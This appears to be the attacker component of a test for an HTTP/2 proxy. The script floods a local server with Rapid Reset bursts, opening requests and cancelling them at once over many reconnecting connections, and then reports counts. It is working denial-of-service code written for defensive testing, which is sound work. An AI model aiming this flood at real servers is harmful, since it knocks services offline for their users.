// The attacker of h2-rapid-reset.test.ts, run as its own process so its CPU
// does not count against the well-behaved client's latency. Usage:
//   node h2-rapid-reset-attacker.ts PORT SOURCE_ADDRESS DURATION_MS CONNECTIONS
// Each of CONNECTIONS loops opens an HTTP/2 connection from SOURCE_ADDRESS
// and sends bursts of HEADERS immediately followed by RST_STREAM(CANCEL);
// when the proxy closes it (GOAWAY or refusal) it reconnects, until the
// duration is over. Prints one JSON line: streams sent, connections made.
import http2 from 'node:http2';
import net from 'node:net';

const [port, source, durationText, connText] = process.argv.slice(2);
const until = Date.now() + Number(durationText);
const BURST = 100;
let streams = 0;
let connections = 0;
let goaways = 0;

function attack(): Promise<void> {
  return new Promise((resolve) => {
    if (Date.now() >= until) return resolve();
    connections++;
    const session = http2.connect(`http://127.0.0.1:${port}`, {
      createConnection: () => net.connect({ host: '127.0.0.1', port: Number(port), localAddress: source }),
      // Node's client limits its own pending RSTs; the attacker does not care.
      maxOutstandingPings: 10,
    });
    session.on('error', () => {});
    session.on('goaway', () => goaways++);
    let done = false;
    const finish = (): void => {
      if (done) return;
      done = true;
      session.destroy();
      // A short pause between reconnects, as a real attacker's client has.
      setTimeout(() => void attack().then(resolve), 5);
    };
    session.once('close', finish);
    const burst = (): void => {
      if (done || session.closed || session.destroyed) return;
      if (Date.now() >= until) return finish();
      for (let i = 0; i < BURST; i++) {
        let req: http2.ClientHttp2Stream;
        try {
          req = session.request({ ':path': `/attack/${streams}` }, { endStream: true });
        } catch {
          return finish();
        }
        req.on('error', () => {});
        req.close(http2.constants.NGHTTP2_CANCEL);
        streams++;
      }
      setImmediate(burst);
    };
    session.once('connect', burst);
  });
}

await Promise.all(Array.from({ length: Number(connText) }, () => attack()));
process.stdout.write(`${JSON.stringify({ streams, connections, goaways })}\n`);
